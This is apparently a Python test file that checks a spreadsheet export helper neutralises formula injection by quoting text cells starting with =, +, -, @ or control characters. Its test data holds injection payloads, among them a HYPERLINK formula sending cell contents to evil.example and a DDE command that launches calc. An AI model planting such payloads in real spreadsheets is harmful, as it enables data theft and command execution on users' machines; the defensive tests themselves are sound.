"""apps/common/spreadsheet.py: the one rule that keeps an export's text cells from running as formulas (OWASP)."""

from decimal import Decimal

import pytest

from apps.common import spreadsheet


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "-", "=",
])
def test_text_starting_with_a_formula_trigger_gets_a_leading_quote(text):
    assert spreadsheet.safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme GPU Cloud", "", "a=b", " =1", "'=already quoted", "3.50", "x-1"])
def test_other_text_is_left_as_it_is(text):
    assert spreadsheet.safe_text(text) == text


@pytest.mark.parametrize("text", ["-3.5", "+2", "-0.000001", "-1E+5", "+.5", "-7."])
def test_a_plain_number_written_as_text_stays_a_number(text):
    """The exports write exact figures as text (no digit lost); a spreadsheet reads these as numbers, not formulas."""
    assert spreadsheet.safe_text(text) == text


def test_numbers_and_empty_cells_pass_through_unchanged():
    values = [Decimal("-3.5"), -3, -3.5, None, True]
    assert spreadsheet.safe_row(values) == values
    assert [type(value) for value in spreadsheet.safe_row(values)] == [Decimal, int, float, type(None), bool]


def test_a_row_mixes_both():
    assert spreadsheet.safe_row(["=1+1", Decimal("-2"), "-2", "ok"]) == ["'=1+1", Decimal("-2"), "-2", "ok"]
